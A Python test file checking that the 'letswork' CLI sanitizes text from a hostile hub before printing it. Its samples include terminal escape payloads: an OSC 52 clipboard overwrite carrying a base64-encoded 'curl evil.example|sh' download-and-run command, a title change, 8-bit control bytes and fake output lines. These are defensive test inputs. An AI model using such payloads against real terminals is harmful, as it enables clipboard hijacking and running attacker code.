"""`letswork join` against a hostile hub: a malformed ``hello`` reply (issue 13, item 11), and
text meant to take over the guest's terminal (item 10)."""

from __future__ import annotations

import asyncio
import contextlib
import os
import secrets
import sys
from pathlib import Path

from websockets.asyncio.server import ServerConnection, serve
from websockets.exceptions import ConnectionClosed

from letswork.channel import sessions
from letswork.shared import invite
from letswork.shared.sanitize import MARKER
from tests.support.fake_hub import (
    GOOD_HELLO,
    FakeLink,
    fake_hub,
    good_result,
    non_hex_hello_script,
)

WAIT = 60.0  # seconds: a guard against hangs, never a measurement


async def _join(*args: str) -> tuple[int, str]:
    proc = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "letswork",
        "join",
        *args,
        stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        env={k: v for k, v in os.environ.items() if k != "LETSWORK_INVITE"},
    )
    out, err = await asyncio.wait_for(proc.communicate(), WAIT)
    assert proc.returncode is not None
    return proc.returncode, (out + err).decode("utf-8", "replace")


async def test_join_reports_a_non_hex_resume_secret_as_the_hubs_error_and_keeps_the_session() -> (
    None
):
    invite_secret, resume_secret = secrets.token_bytes(16), secrets.token_bytes(32)
    async with fake_hub([invite_secret, resume_secret], non_hex_hello_script) as hub:
        # A guest who joined before: the stored session holds the invite and a resume secret.
        sessions.save_session(
            "work",
            sessions.SessionRecord(
                url=hub.url, invite_secret=invite_secret, resume_secret=resume_secret, name="alice"
            ),
        )
        code, output = await _join(
            hub.code(invite_secret), "--session", "work", "--name", "alice", "--print-config"
        )
        assert hub.connections >= 1  # the hub was reached and answered hello
    assert code == 1, output
    assert "Traceback" not in output
    assert "the hub sent a malformed reply to 'hello'" in output
    assert "resume_secret" in output
    stored = sessions.load_session("work")
    assert stored.invite_secret == invite_secret
    assert stored.resume_secret == resume_secret  # neither replaced by the hub's value nor lost


# ------------------------------------------------------------------ text a hostile hub sends
# Issue 13, item 10: whatever a hub (or anyone answering at the invite's address) sends, the
# guest's terminal gets it cleaned: no escape sequence, no control character, nothing invisible.

#: OSC 52 replaces the clipboard (here with a shell command), OSC 0 sets the window title.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\x07"
OSC0 = "\x1b]0;pwned\x07"
#: A line break, then a line that would pass for join's own output.
FAKE_LINE = "\nregistered the letswork channel with Claude Code"


def _terminal_safe(output: str) -> None:
    """No escape, BEL, C1 control, line separator or tag character reached the terminal."""
    for raw in ("\x1b", "\x07", "\x9b", "\x9d", "\u2028", "\U000e0061"):
        assert raw not in output, ascii(output)
    assert "]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK" in output  # the attempt is shown, inert
    assert MARKER in output


async def test_a_close_reason_sent_before_the_handshake_reaches_the_terminal_cleaned() -> None:
    reason = f"{OSC52}{OSC0}\U000e0061\u2028bye"
    assert len(reason.encode()) <= 123  # a close frame's reason

    async def squatter(ws: ServerConnection) -> None:
        await ws.recv()  # the ClientHello: no secret is needed to answer like this
        await ws.close(4000, reason)

    async with serve(squatter, "127.0.0.1", 0) as server:
        port = next(iter(server.sockets)).getsockname()[1]
        code = invite.Invite(secrets.token_bytes(16), f"ws://127.0.0.1:{port}/").format()
        exit_code, output = await _join(code, "--name", "alice", "--print-config")
    assert exit_code == 1, output
    _terminal_safe(output)
    [line] = [line for line in output.splitlines() if "the hub closed the connection" in line]
    assert line.startswith("letswork: the hub closed the connection (code 4000: ")
    assert line.endswith(f"{MARKER}bye)")


async def test_a_hostile_project_name_in_hello_reaches_the_terminal_cleaned_on_one_line() -> None:
    invite_secret = secrets.token_bytes(16)
    project = f"demo{OSC52}{OSC0}\U000e0061{FAKE_LINE}"

    async def script(link: FakeLink) -> None:
        with contextlib.suppress(ConnectionClosed):
            request = await link.request()
            await link.reply(request, {**GOOD_HELLO, "project": project})
            await link.serve_good()

    async with fake_hub([invite_secret], script) as hub:
        exit_code, output = await _join(
            hub.code(invite_secret), "--name", "alice", "--print-config"
        )
    assert exit_code == 0, output
    _terminal_safe(output)
    [joined] = [line for line in output.splitlines() if line.startswith("joined ")]
    assert joined.startswith(f"joined demo{MARKER}]52;c;")
    assert joined.endswith("registered the letswork channel with Claude Code as alice (editor)")


async def test_a_hostile_display_name_in_hello_is_refused_and_not_printed() -> None:
    invite_secret = secrets.token_bytes(16)

    async def script(link: FakeLink) -> None:
        with contextlib.suppress(ConnectionClosed):
            request = await link.request()
            await link.reply(request, {**GOOD_HELLO, "name": f"alice{OSC0}"})
            await link.ws.wait_closed()

    async with fake_hub([invite_secret], script) as hub:
        exit_code, output = await _join(
            hub.code(invite_secret), "--name", "alice", "--print-config"
        )
    assert exit_code == 1, output
    assert "\x1b" not in output and "\x07" not in output and "pwned" not in output
    assert "the hub sent a malformed reply to 'hello'" in output


async def test_a_hostile_error_message_from_the_hub_reaches_the_terminal_cleaned() -> None:
    invite_secret = secrets.token_bytes(16)
    message = f"go away{OSC52}{OSC0}\U000e0061\u2028{FAKE_LINE}"

    async def script(link: FakeLink) -> None:
        with contextlib.suppress(ConnectionClosed):
            request = await link.request()
            error = {"code": "forbidden", "message": message}
            await link.send_obj({"id": request["id"], "ok": False, "error": error})
            await link.ws.wait_closed()

    async with fake_hub([invite_secret], script) as hub:
        exit_code, output = await _join(
            hub.code(invite_secret), "--name", "alice", "--print-config"
        )
    assert exit_code == 1, output
    _terminal_safe(output)
    [line] = [line for line in output.splitlines() if "go away" in line]
    assert line.startswith(f"letswork: go away{MARKER}]52;c;")
    assert line.endswith("registered the letswork channel with Claude Code")
    assert "registered the letswork channel" not in output.replace(line, "")


async def test_a_hostile_http_answer_to_the_upgrade_reaches_the_terminal_cleaned() -> None:
    """websockets quotes a bad header of the hub's HTTP answer in its error, read as
    ISO-8859-1: bytes 0x9b and 0x9d are 8-bit CSI and OSC."""

    async def squatter(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Accept: \x9b2J\x9d0;pwned\x9c\r\n\r\n"
        )
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(squatter, "127.0.0.1", 0)
    async with server:
        port = server.sockets[0].getsockname()[1]
        code = invite.Invite(secrets.token_bytes(16), f"ws://127.0.0.1:{port}/").format()
        exit_code, output = await _join(code, "--name", "alice", "--print-config")
    assert exit_code == 1, output
    assert not any(raw in output for raw in ("\x9b", "\x9c", "\x9d", "\x1b")), ascii(output)
    assert f"invalid Sec-WebSocket-Accept header: {MARKER}0;pwned{MARKER}" in output


# Issue 16: `status` and `doctor` as a guest ask the stored session's hub, which may be hostile.


async def _command(*args: str) -> tuple[int, str]:
    proc = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "letswork",
        *args,
        stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await asyncio.wait_for(proc.communicate(), WAIT)
    assert proc.returncode is not None
    return proc.returncode, (out + err).decode("utf-8", "replace")


async def test_a_guests_status_and_doctor_show_a_hostile_hubs_text_cleaned(tmp_path: Path) -> None:
    invite_secret, resume_secret = secrets.token_bytes(16), secrets.token_bytes(32)
    project = f"demo{OSC52}{OSC0}\U000e0061{FAKE_LINE}"
    message = f"go away{OSC52}{OSC0}\u2028{FAKE_LINE}"

    async def script(link: FakeLink) -> None:
        with contextlib.suppress(ConnectionClosed):
            hello = await link.request()
            await link.reply(hello, {**GOOD_HELLO, "resume_secret": None})
            request = await link.request()
            if request["op"] == "status":
                status = {**good_result("status"), "project": project}
                await link.reply(request, status)
            else:
                error = {"code": "forbidden", "message": message}
                await link.send_obj({"id": request["id"], "ok": False, "error": error})
            await link.ws.wait_closed()

    async with fake_hub([invite_secret, resume_secret], script) as hub:
        sessions.save_session(
            "work",
            sessions.SessionRecord(
                url=hub.url, invite_secret=invite_secret, resume_secret=resume_secret, name="alice"
            ),
        )
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir()
        code, status = await _command("status", "--project", str(elsewhere))
        assert hub.connections == 1  # the resume credential, never the invite
        _, doctor = await _command("doctor", "--project", str(elsewhere))
    assert code == 0, status
    _terminal_safe(status)
    [line] = [line for line in status.splitlines() if line.startswith("project: ")]
    assert line.endswith("registered the letswork channel with Claude Code")
    assert "registered the letswork channel" not in status.replace(line, "")
    for raw in ("\x1b", "\x07", "\u2028"):
        assert raw not in doctor, ascii(doctor)
    [line] = [line for line in doctor.splitlines() if "go away" in line]
    assert line.startswith("FIX   session 'work': the hub at")
    assert "registered the letswork channel" not in doctor.replace(line, "")
